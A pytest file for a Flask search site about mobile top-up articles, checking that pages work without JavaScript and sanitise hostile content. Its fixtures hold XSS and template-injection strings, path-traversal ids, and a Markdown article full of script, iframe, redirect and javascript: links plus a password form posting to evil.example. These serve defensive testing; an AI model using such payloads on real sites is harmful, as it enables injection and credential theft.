"""The pages for readers: without JavaScript, with a verdict on every hit, and with nothing of a hostile author's."""

import re
from collections.abc import Mapping
from pathlib import Path
from urllib.parse import unquote, urlsplit

import pytest
from flask import Flask
from flask.testing import FlaskClient

from service.jobs.ask import ask
from service.web.app import create_app
from service.web.settings import Settings
from tests.search import builds
from tests.web import pages

SAFE = {
    *("html", "head", "meta", "title", "link", "body", "header", "main", "footer", "section", "article"),
    *("form", "label", "div", "input", "button", "span", "p", "a", "ol", "ul", "li", "mark", "q", "br", "hr"),
    *("h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "code", "pre", "blockquote"),
    *("table", "thead", "tbody", "tr", "th", "td", "nav", "svg", "path", "script", "details", "summary"),
}


def of_ours(page: pages.Page) -> bool:
    """Whether every script is a file of ours or data."""
    return all(
        e.attributes.get("src", "").endswith("/static/search.js") or e.attributes.get("type") == "application/ld+json"
        for e in page.all("script")
    )


def page_of(
    client: FlaskClient, path: str, status: int = 200, asked: Mapping[str, str] | None = None, **query: str
) -> pages.Page:
    answer = client.get(path, query_string=asked or query or None, headers={"Accept": "text/html"})
    assert answer.status_code == status
    assert answer.content_type == "text/html; charset=utf-8"
    return pages.read(answer.text)


# Searching -----------------------------------------------------------------------------------------


def test_the_first_page_has_a_form_that_works_without_javascript(client: FlaskClient) -> None:
    page = page_of(client, "/")
    (form,) = page.all("form")

    assert (form.attributes["action"], form.attributes["method"]) == ("/", "get")
    assert [field.attributes["name"] for field in page.all("input")] == ["q"]
    assert page.all("input")[0].attributes["maxlength"] == "500"
    assert page.all("html")[0].attributes["lang"] == "zh-Hans"
    assert of_ours(page)


@pytest.mark.parametrize("question", ["kcell充值", "充值 登记", "hasakesitan", "骗局", "火箭 充值", "卡"])
def test_every_hit_is_shown_with_its_verdict_in_words(app: Flask, client: FlaskClient, question: str) -> None:
    page = page_of(client, "/", q=question)
    hits = ask(app.extensions["shelf"].get(), question).hits

    for said, hit in zip(page.all("p", "verdict"), hits, strict=True):
        assert f"核对于 {hit.verdict.checked}" in said.text
        assert f"{hit.verdict.sources} 个来源" in said.text
        assert ("⚠" in said.text, "✓" in said.text) == (bool(hit.verdict.errors), not any(hit.verdict.rank))
    assert [e.text for e in page.all("p", "snippet")] == [hit.snippet for hit in hits]
    assert [e.text for e in page.all("mark")] == [hit.snippet[m.start : m.end] for hit in hits for m in hit.marks]
    assert [e.text for e in page.all("h2") if "class" not in e.attributes] == [hit.section for hit in hits]
    assert of_ours(page)


def test_a_hit_with_errors_says_so_first(own: FlaskClient, tmp_path: Path) -> None:
    builds.shelve(tmp_path / "index", {"faulty.md": "# 充值\n\n到店里把卡号和密码报给店员。\n"})
    (verdict,) = page_of(own, "/", q="充值").all("p", "verdict")

    assert verdict.text.startswith("⚠ 一处做法危险")


def test_the_number_of_hits_is_the_number_listed(app: Flask, client: FlaskClient) -> None:
    page = page_of(client, "/", q="灰名单")

    assert page.all("h1")[0].text.strip() == f"找到 {len(page.all('li', 'hit'))} 篇"


def test_what_nothing_answers_is_said_plainly(client: FlaskClient) -> None:
    assert "没有找到和「zzqqzz」相关的内容" in page_of(client, "/", q="zzqqzz").text
    assert "没有找到能回答这个问题的内容" in page_of(client, "/", q="火星流量卡").text
    assert "第一条里没有：火箭" in page_of(client, "/", q="kcell 充值 到账 号码 火箭").text


def test_a_guess_is_offered_as_a_link(client: FlaskClient) -> None:
    page = page_of(client, "/", q="beelien")
    (link,) = [e for e in page.all("a") if e.text == "beeline"]

    assert "您是不是要找" in page.text
    assert page_of(client, link.attributes["href"]).all("li", "hit")


def test_later_pages_keep_question_and_filters_and_reach_every_hit(tmp_path: Path) -> None:
    builds.shelve(
        tmp_path / "index",
        {f"n{n:02}.md": f"+++\ncountries = ['KZ']\n+++\n# 充值 {n}\n\n充值的第{n}个办法。\n" for n in range(23)},
    )
    client = create_app(Settings(tmp_path / "index")).test_client()
    page, found = page_of(client, "/", q="充值", country="KZ"), list[str]()
    for _ in range(3):
        found += [e.text for e in page.all("h2") if "class" not in e.attributes]
        following = [e for e in page.all("a") if e.attributes.get("rel") == "next"]
        page = page_of(client, following[0].attributes["href"]) if following else page

    assert len(found) == len(set(found)) == 23
    assert [e.attributes["value"] for e in page.all("input") if e.attributes["type"] == "hidden"] == ["KZ"]


@pytest.mark.parametrize("question", ["a" * 501, "充值&cursor=x", "充值&limit=99", "充值&colour=red"])
def test_a_question_that_cannot_be_searched_gets_the_form_again_and_the_reason(
    client: FlaskClient, question: str
) -> None:
    page = page_of(client, f"/?q={question}", 400)

    assert "这个问题没法搜索" in page.text
    assert page.all("form")
    assert [field.attributes["name"] for field in page.all("input")] == ["q"], "the next question is asked without them"


HOSTILE = "\"><script>alert(1)</script><img src=x onerror=alert(1)>'{{7*7}}${7*7}</title>"


def test_a_hostile_question_is_shown_as_what_it_is_text(client: FlaskClient) -> None:
    page = page_of(client, "/", asked={"q": HOSTILE})

    assert of_ours(page)
    assert not page.all("img")
    assert HOSTILE in page.text or any(e.attributes.get("value") == HOSTILE for e in page.all("input"))
    assert "49" not in page.text.replace(HOSTILE, "")


@pytest.mark.parametrize("name", ["cursor", "limit", "country", "operator", "kind", "topic", "colour"])
def test_a_hostile_complaint_is_text_too(client: FlaskClient, name: str) -> None:
    page = page_of(client, "/", 400, {"q": "充值", name: HOSTILE})

    assert of_ours(page)
    assert not page.all("img")


# Articles ------------------------------------------------------------------------------------------


def test_every_hit_of_every_judged_question_leads_to_an_anchor_that_is_there(client: FlaskClient) -> None:
    read: dict[str, pages.Page] = {}
    for question in builds.desks().questions():
        for hit in client.get("/api/v1/search", query_string={"q": question.text}).get_json()["hits"]:
            path, _, anchor = hit["url"].partition("#")
            page = read.setdefault(path, page_of(client, path))
            assert page.ids.count(unquote(anchor)) == 1, hit["url"]
    assert len(read) >= 4


@pytest.mark.parametrize("article", sorted(path.stem for path in (builds.ROOT / "corpus" / "articles").glob("*.md")))
def test_an_article_is_shown_whole_with_its_title_and_links_that_lead_somewhere(
    client: FlaskClient, app: Flask, article: str
) -> None:
    said = app.extensions["shelf"].get().articles[article]
    page = page_of(client, f"/a/{article}")

    assert [e.text.strip() for e in page.all("h1")] == [said["title"]]
    assert len(page.ids) == len(set(page.ids))
    assert {heading for _, heading, _ in said["sections"]} <= {e.text.strip() for e in page.elements}
    for link in page.links:
        parts = urlsplit(link)
        if not parts.scheme:
            there = client.get(unquote(parts.path) or f"/a/{article}", headers={"Accept": "text/html"})
            assert there.status_code == 200, link
            assert not parts.fragment or unquote(parts.fragment) in pages.read(there.text).ids, link
    assert len(page.all("ol", "sources")[0].text.splitlines()) >= 1


def test_an_article_without_a_lead_still_shows_its_title(tmp_path: Path, own: FlaskClient) -> None:
    builds.shelve(
        tmp_path / "index",
        {"a.md": "# 大标题\n\n## 小标题\n\n充值。\n", "b.md": "+++\ntitle = '前言标题'\n+++\n\n只有正文。\n"},
    )

    assert [e.text.strip() for e in page_of(own, "/a/a").all("h1")] == ["大标题"]
    assert [e.text.strip() for e in page_of(own, "/a/b").all("h1")] == ["前言标题"]


def test_a_link_by_reference_leads_where_it_does_in_the_whole_file(tmp_path: Path, own: FlaskClient) -> None:
    builds.shelve(
        tmp_path / "index", {"a.md": "# 标题\n\n看[官网][k]。\n\n## 尾\n\n完。\n\n[k]: https://www.kcell.kz\n"}
    )

    assert "https://www.kcell.kz" in page_of(own, "/a/a").links


def test_an_article_in_traditional_characters_says_so(tmp_path: Path, own: FlaskClient) -> None:
    builds.shelve(tmp_path / "index", {"a.md": "# 怎麼儲值\n\n王后在後面儲值，說乾隆很乾淨。\n"})
    page = page_of(own, "/zh-hant/a/a")

    assert page.all("article")[0].attributes["lang"] == "zh-Hant"
    assert "王后在後面儲值，說乾隆很乾淨。" in page.text


def test_the_findings_of_an_article_stand_at_its_foot(tmp_path: Path, own: FlaskClient) -> None:
    builds.shelve(
        tmp_path / "index", {"a.md": "# 充值\n\n到店里把卡号和密码报给店员。\n\n## findings\n\n## sources\n\n完。\n"}
    )
    page = page_of(own, "/a/a")

    assert "⚠ 一处做法危险" in page.text
    assert "把卡号和密码报给店员" in [e.text for e in page.all("q")]
    assert len(page.ids) == len(set(page.ids)), "a heading has the id of a part of the page"


@pytest.mark.parametrize(
    "id", ["nobody", "../CURRENT", "..%2f..%2fetc%2fpasswd", "kz-topup/", "kz-topup.md", "%00", "KZ-TOPUP", "a" * 5000]
)
def test_an_article_that_is_not_there_is_a_page_that_leads_back(client: FlaskClient, id: str) -> None:
    page = page_of(client, f"/a/{id}", 404)

    assert "没有这一页" in page.text
    assert "/" in page.links


def test_an_id_of_any_characters_can_be_opened_from_its_hit(tmp_path: Path, own: FlaskClient) -> None:
    names = ["我的 文章", "50%#1?", "a+b&c", "q\"'<"]
    builds.shelve(tmp_path / "index", {f"{name}.md": f"# 火箭{n}\n\n火箭。\n" for n, name in enumerate(names)})
    hits = own.get("/api/v1/search?q=火箭").get_json()["hits"]
    listed = [link for link in page_of(own, "/", q="火箭").links if link.startswith("/a/")]

    assert sorted(hit["article"] for hit in hits) == sorted(["topup", *names][1:])
    for url in [*(hit["url"] for hit in hits), *listed]:
        path, _, anchor = url.partition("#")
        assert unquote(anchor) in page_of(own, path).ids


MALICE = """# 充值 <script>alert('title')</script>

<script>alert('script')</script>
<style>body{background:url(https://evil.example/css)}</style>
<img src="https://evil.example/pixel.png" onerror="alert('img')">
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/steal"><input name="password"></form>
<a href="javascript:alert('a')" onclick="alert('click')" style="position:fixed" id="q" class="x" target="_blank">raw link</a>
<svg><a xlink:href="javascript:alert('svg')">s</a></svg> <math><mi//xlink:href="data:x,<script>alert('math')</script>">
<meta http-equiv="refresh" content="0;url=https://evil.example/meta"><base href="https://evil.example/">

充值 ![图](https://evil.example/image.png) [甲](javascript:alert('md')) [乙](JaVaScRiPt:alert('md'))
[丙](data:text/html;base64,PHNjcmlwdD4=) [丁](vbscript:x) <javascript:alert('auto')> [戊](//evil.example/relative)
[己]( javascript:alert('space')) [庚](&#106;avascript:alert('entity')) [辛](java\tscript:alert('tab'))
把卡号和密码<script>alert('quote')</script>报给店员。

## <b onmouseover="alert('heading')">标题</b> " onload="alert('anchor')

```<script>alert('fence')</script>
<script>alert('code')</script>
```

| <script>alert('cell')</script> | b |
|---|---|
| c | <img src=https://evil.example/cell.png> |
"""


@pytest.mark.parametrize("path", ["/a/evil", "/?q=充值", "/?q=标题", "/?q=alert", "/?q=密码"])
def test_nothing_of_a_hostile_article_reaches_the_page_but_text(tmp_path: Path, own: FlaskClient, path: str) -> None:
    builds.shelve(tmp_path / "index", {"evil.md": MALICE})
    page = page_of(own, path)

    assert {e.tag for e in page.elements} <= SAFE
    assert of_ours(page)
    for element in page.elements:
        assert element.tag == "script" or not [
            name for name in element.attributes if name.startswith("on") or name in ("style", "src", "srcdoc", "target")
        ]
        if element.tag == "form":
            assert element.attributes["action"] in ("/", "/feedback")
        if element.tag in ("a", "link"):
            address = re.sub(r"[\x00-\x20]", "", element.attributes.get("href", "")).lower()
            assert address.startswith(("/", "#", "http://", "https://", "mailto:", "tel:")) or not address
    assert len(page.ids) == len(set(page.ids))
    assert {e.attributes.get("name") for e in page.all("input")} <= {
        "q",
        "token",
        "kind",
        "article",
        "anchor",
        "website",
    }


def test_links_of_an_article_give_no_thanks_and_no_referrer(tmp_path: Path, own: FlaskClient) -> None:
    builds.shelve(tmp_path / "index", {"a.md": "# 充值\n\n看 [官网](https://www.kcell.kz)。\n"})
    (link,) = [e for e in page_of(own, "/a/a").all("a") if "kcell" in e.attributes["href"]]

    assert {"nofollow", "noopener", "noreferrer", "ugc"} <= set(link.attributes["rel"].split())


def test_a_reader_without_index_gets_a_page_and_a_program_gets_a_problem(nothing: FlaskClient) -> None:
    assert "现在还不能搜索" in page_of(nothing, "/", 503).text
    assert nothing.get("/", headers={"Accept": "application/json"}).content_type == "application/problem+json"
